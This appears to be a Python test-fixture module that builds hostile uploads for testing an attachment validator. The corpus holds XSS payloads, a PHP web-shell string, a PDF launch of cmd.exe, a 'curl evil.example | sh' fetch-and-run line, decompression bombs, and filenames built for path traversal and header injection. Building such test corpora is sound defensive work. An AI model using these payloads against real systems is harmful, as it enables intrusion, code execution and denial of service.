"""The abuse corpus: files an attacker would send, each with what the desk must do with it.

Every sample is either refused with a stable error code or stored with the
type found by its content (and, for images, re-encoded so that whatever was
hidden in or after them is gone). Nothing here is read from disk.
"""

from __future__ import annotations

import functools
import gzip
import struct
import zipfile
import zlib
from dataclasses import dataclass, replace
from io import BytesIO

from PIL import Image
from PIL.PngImagePlugin import PngInfo

# The size limit the corpus is sent under (settings DESK_ATTACHMENT_MAX_BYTES),
# small so that "limit + 1" stays cheap; the real limit has its own test.
LIMIT = 256 * 1024
SCRIPT = b"<script>alert(document.domain)</script>"


@dataclass(frozen=True)
class Sample:
    """One file as sent, and what must become of it.

    Exactly one of ``refused`` (the error code) and ``stored_type`` (the
    type it is stored as) is set. ``stored_name`` is the cleaned name it is
    stored under; ``absent`` are bytes that must not survive into the
    stored file.
    """

    key: str
    name: str
    data: bytes
    claimed: str = "application/octet-stream"
    refused: str = ""
    stored_type: str = ""
    stored_name: str = ""
    absent: tuple[bytes, ...] = ()
    by_form: bool = True  # False: a form upload cannot carry it, only mail

    def __post_init__(self) -> None:
        assert bool(self.refused) != bool(self.stored_type), self.key


# --- Builders -----------------------------------------------------------------


def image(
    fmt: str, *, mode: str = "RGB", size: tuple[int, int] = (24, 16), **options: object
) -> bytes:
    """Return a small, valid image of ``fmt`` made by Pillow."""
    out = BytesIO()
    Image.new(mode, size).save(out, format=fmt, **options)
    return out.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    crc = zlib.crc32(kind + body) & 0xFFFFFFFF
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)


def png_declaring(width: int, height: int, *, rows: int = 1) -> bytes:
    """Return a PNG whose header declares ``width``×``height`` but that holds ``rows`` rows.

    A few hundred bytes that would take gigabytes to decode: a pixel flood.
    """
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * (1 + 3 * min(width, 64)) * rows)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )


def png_bomb(width: int, height: int) -> bytes:
    """Return a whole, valid PNG of one colour: tiny on disk, ``width``×``height`` decoded."""
    packer = zlib.compressobj(9)
    row = b"\x00" * (1 + 3 * width)
    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", pixels)
        + _png_chunk(b"IEND", b"")
    )


def png_with_text_bomb() -> bytes:
    """Return a PNG with a compressed text chunk that inflates to 8 MB of nothing."""
    packer = zlib.compressobj(9)
    inflated = packer.compress(b"\x00" * (8 * 1024 * 1024)) + packer.flush()
    plain = image("PNG")
    bomb = _png_chunk(b"zTXt", b"Comment\x00\x00" + inflated)
    return plain[:33] + bomb + plain[33:]  # after the 8-byte signature and 25-byte IHDR


def png_with_markup_in_metadata() -> bytes:
    """Return a PNG whose text chunk holds a script and PHP, as web shells do."""
    info = PngInfo()
    info.add_text("Comment", (SCRIPT + b"<?php system($_GET['c']); ?>").decode())
    return image("PNG", pnginfo=info)


def jpeg_declaring(width: int, height: int) -> bytes:
    """Return a small JPEG whose frame header is rewritten to declare ``width``×``height``."""
    data = bytearray(image("JPEG"))
    start = data.index(b"\xff\xc0")  # start of frame (baseline)
    data[start + 5 : start + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def gif_declaring(width: int, height: int) -> bytes:
    """Return a GIF whose screen and image descriptors declare ``width``×``height``."""
    size = struct.pack("<HH", width, height)
    return (
        b"GIF89a" + size + b"\x00\x00\x00" + b",\x00\x00\x00\x00" + size + b"\x00\x02\x02D\x01\x00;"
    )


def gif_javascript_polyglot() -> bytes:
    """Return the classic GIF/JavaScript polyglot: a GIF header that also parses as a script."""
    return b"GIF89a/*\x01\x00\x01\x00\x00\xff\x00,\x00\x00\x00\x00*/=1;alert(document.domain);//"


def pdf(*objects: bytes) -> bytes:
    """Return a whole one-page PDF with ``objects`` (numbered from 4) inside."""
    return b"".join(
        [
            b"%PDF-1.7\n",
            b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n",
            b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
            b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n",
            *objects,
            b"trailer\n<< /Root 1 0 R >>\n%%EOF\n",
        ]
    )


def pdf_flate_bomb() -> bytes:
    """Return a PDF whose compressed object stream inflates to 40 MB."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b" " * (40 * 1024 * 1024)) + packer.flush()
    stream = (
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n"
    )
    return pdf(stream)


def gzip_bomb() -> bytes:
    """Return a gzip file of 8 MB of zeros (eight kilobytes packed)."""
    return gzip.compress(b"\x00" * (8 * 1024 * 1024), compresslevel=9)


def zip_archive() -> bytes:
    """Return a ZIP holding an HTML page (also what .docx, .jar and .apk files are)."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("index.html", b"<html><body>" + SCRIPT + b"</body></html>")
    return out.getvalue()


SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
    + SCRIPT
    + b"</svg>"
)
HTML = (
    b"<!DOCTYPE html><html><head><title>Receipt</title></head><body>" + SCRIPT + b"</body></html>"
)
WINDOWS_PROGRAM = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 50 + b"PE\x00\x00"
)
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
OFFICE_DOCUMENT = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64  # .doc, .xls, .msi
TEXT = b"Order MP-1001 was charged twice.\n"


# --- The corpus -----------------------------------------------------------------


def _refused(key: str, name: str, data: bytes, code: str, claimed: str = "") -> Sample:
    return Sample(key, name, data, claimed or "application/octet-stream", refused=code)


def _stored(
    key: str,
    name: str,
    data: bytes,
    stored_type: str,
    stored_name: str,
    *absent: bytes,
    claimed: str = "",
) -> Sample:
    return Sample(
        key,
        name,
        data,
        claimed or "application/octet-stream",
        stored_type=stored_type,
        stored_name=stored_name,
        absent=absent,
    )


@functools.cache
def corpus() -> tuple[Sample, ...]:
    """Return every abusive file, with what the desk must do with it."""
    jpeg = image("JPEG")
    return (
        # Markup a browser would run.
        _refused("svg-script", "logo.svg", SVG, "type_not_allowed", "image/svg+xml"),
        _refused(
            "svg-as-png", "chart.png", SVG.split(b"\n", 1)[1], "type_not_allowed", "image/png"
        ),
        _refused("html", "receipt.html", HTML, "type_not_allowed", "text/html"),
        _refused("html-as-jpg", "photo.jpg", HTML, "type_not_allowed", "image/jpeg"),
        _refused("html-with-bom", "notes.txt", b"\xef\xbb\xbf  \n" + HTML, "type_not_allowed"),
        _refused(
            "xml", "data.xml", b'<?xml version="1.0"?><a>' + SCRIPT + b"</a>", "type_not_allowed"
        ),
        _refused("html-utf16", "page.txt", HTML.decode().encode("utf-16"), "type_not_allowed"),
        # Polyglots.
        _refused(
            "gif-js-polyglot", "anim.gif", gif_javascript_polyglot(), "too_large", "image/gif"
        ),
        _stored(
            "gif-then-js",
            "anim.gif",
            image("GIF", mode="P") + b"*/" + SCRIPT,
            "image/png",
            "anim.png",
            SCRIPT,
        ),
        _stored(
            "jpeg-then-html", "photo.jpg", jpeg + HTML, "image/jpeg", "photo.jpg", SCRIPT, b"<html"
        ),
        _stored(
            "png-markup-metadata",
            "shot.png",
            png_with_markup_in_metadata(),
            "image/png",
            "shot.png",
            SCRIPT,
            b"<?php",
        ),
        _stored(
            "pdf-html-polyglot",
            "statement.pdf",
            b"%PDF-1.4\n" + HTML + b"\n%%EOF\n",
            "application/pdf",
            "statement.pdf",
        ),
        _refused(
            "pdf-javascript",
            "statement.pdf",
            pdf(b"4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"),
            "unsafe",
            "application/pdf",
        ),
        _refused(
            "pdf-javascript-escaped",
            "statement.pdf",
            pdf(b"4 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n"),
            "unsafe",
        ),
        _refused(
            "pdf-launch",
            "invoice.pdf",
            pdf(b"4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"),
            "unsafe",
        ),
        _refused(
            "pdf-xfa-form",
            "form.pdf",
            pdf(b"4 0 obj\n<< /Fields [] /XFA 5 0 R >>\nendobj\n"),
            "unsafe",
        ),
        _refused(
            "pdf-embedded-file",
            "invoice.pdf",
            pdf(b"4 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"),
            "unsafe",
        ),
        # Wrong magic bytes: the name and the claimed type lie.
        _refused("exe-as-jpg", "photo.jpg", WINDOWS_PROGRAM, "program", "image/jpeg"),
        _refused("elf-as-pdf", "statement.pdf", LINUX_PROGRAM, "program", "application/pdf"),
        _refused("script-as-txt", "notes.txt", b"#!/bin/sh\ncurl evil.example | sh\n", "program"),
        _refused("zip-as-png", "photos.png", zip_archive(), "archive", "image/png"),
        _refused("office-as-pdf", "form.pdf", OFFICE_DOCUMENT, "type_not_allowed"),
        _refused("tiff", "scan.tiff", image("TIFF"), "type_not_allowed", "image/tiff"),
        _refused("bmp-as-jpg", "photo.jpg", image("BMP"), "type_not_allowed", "image/jpeg"),
        _refused("random-bytes-as-jpg", "photo.jpg", bytes(range(256)) * 8, "type_not_allowed"),
        _refused("binary-text", "log.txt", b"abc\x00def", "type_not_allowed", "text/plain"),
        _refused("truncated-png", "shot.png", image("PNG", size=(64, 64))[:70], "damaged"),
        _stored(
            "png-named-pdf",
            "report.pdf",
            image("PNG"),
            "image/png",
            "report.png",
            claimed="application/pdf",
        ),
        _stored("text-named-exe", "setup.exe", TEXT, "text/plain", "setup.txt"),
        _stored("text-with-markup-late", "log.txt", b"x" * 9000 + SCRIPT, "text/plain", "log.txt"),
        _stored(
            "text-with-event-handler",
            "note.txt",
            b"<img src=x onerror=alert(1)>",
            "text/plain",
            "note.txt",
        ),
        # Size.
        _refused("empty", "empty.png", b"", "empty", "image/png"),
        _refused("limit-plus-one", "big.txt", b"a" * (LIMIT + 1), "too_large", "text/plain"),
        _stored("at-the-limit", "big.txt", b"a" * LIMIT, "text/plain", "big.txt"),
        # Pixel floods and decompression bombs.
        _refused(
            "png-50000x50000", "flood.png", png_declaring(50_000, 50_000), "too_large", "image/png"
        ),
        _refused(
            "png-7000x7000", "flood.png", png_declaring(7_000, 7_000), "too_large", "image/png"
        ),
        # Decoded whole, a PNG is held to 4096 x 4096 pixels' worth.
        _refused(
            "png-4097x4097", "flood.png", png_declaring(4_097, 4_097), "too_large", "image/png"
        ),
        _refused(
            "jpeg-65000x65000",
            "flood.jpg",
            jpeg_declaring(65_000, 65_000),
            "too_large",
            "image/jpeg",
        ),
        _refused(
            "gif-65535x65535", "flood.gif", gif_declaring(65_535, 65_535), "too_large", "image/gif"
        ),
        _refused("png-text-bomb", "bomb.png", png_with_text_bomb(), "damaged", "image/png"),
        _stored("png-bomb-in-limit", "blank.png", png_bomb(2000, 2000), "image/png", "blank.png"),
        _refused("pdf-flate-bomb", "bomb.pdf", pdf_flate_bomb(), "unsafe", "application/pdf"),
        _refused("gzip-bomb", "bomb.txt", gzip_bomb(), "archive"),
    )


@functools.cache
def hostile_names() -> tuple[Sample, ...]:
    """Return plain text files under names meant to escape a folder, a header or a reader's eye."""
    names = [
        ("traversal", "../../etc/passwd", "passwd.txt"),
        ("traversal-deep", "../../../../../../tmp/owned.txt", "owned.txt"),
        ("traversal-windows", "..\\..\\x", "x.txt"),
        ("absolute", "/etc/cron.d/job", "job.txt"),
        ("nul-byte", "photo.jpg\x00.exe", "photo.jpg.txt"),
        ("very-long", "x" * 246 + ".txt", "x" * 100 + ".txt"),
        ("rtl-override", "evil\u202egpj.exe", "evilgpj.txt"),
        ("zero-width", "inv\u200boice\ufeff.pdf", "invoice.txt"),
        ("dotfile", ".htaccess", "htaccess.txt"),
        ("dots-only", "...", "file.txt"),
        ("device-name", "CON", "CON_file.txt"),
        ("device-name-extension", "nul.txt", "nul_file.txt"),
        ("script-tag", "<script>alert(1)</script>.txt", "script.txt"),
        (
            "attribute-breakout",
            '"><img src=x onerror=alert(1)>.txt',
            "",
        ),
        (
            "header-injection",
            "a.txt\r\nContent-Type: text/html\r\n\r\n<b>",
            "",
        ),
        ("percent-encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd.txt"),
        ("trailing-dots", "photo.jpg. . .", "photo.jpg.txt"),
    ]
    # A form part whose name has no printable character is no file to Django (it is
    # dropped while parsing); only mail can send it.
    names.append(("nul-only", "\x00", "file.txt"))
    samples = [
        # Each says which it is, so that files sent together are told apart once stored.
        _stored(f"name-{key}", sent, TEXT + f"({key})\n".encode(), "text/plain", stored)
        for key, sent, stored in names
    ]
    return (*samples[:-1], replace(samples[-1], by_form=False))
